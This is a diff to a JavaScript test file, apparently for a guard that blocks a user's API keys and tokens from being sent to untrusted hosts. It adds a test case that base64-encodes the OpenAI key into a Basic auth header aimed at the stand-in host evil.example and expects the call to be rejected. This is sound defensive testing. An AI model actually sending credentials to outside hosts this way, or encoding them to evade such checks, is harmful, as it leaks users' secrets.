@@ -130,6 +130,8 @@ describe('the keys of the user', () => {
     await check('https://api.openai.com/v1', `Bearer ${KEY}`);
     await check('https://evil.example/', environment.PLAIN);
     await assert.rejects(check('https://evil.example/', `Bearer ${KEY}`), /OPENAI_API_KEY/);
+    const basic = Buffer.from(`user:${KEY}`).toString('base64');
+    await assert.rejects(check('https://evil.example/', `Basic ${basic}`), /OPENAI_API_KEY/);
     await assert.rejects(check(`https://evil.example/?k=${environment.MY_TOKEN}`, ''), /MY_TOKEN/);
   });
 
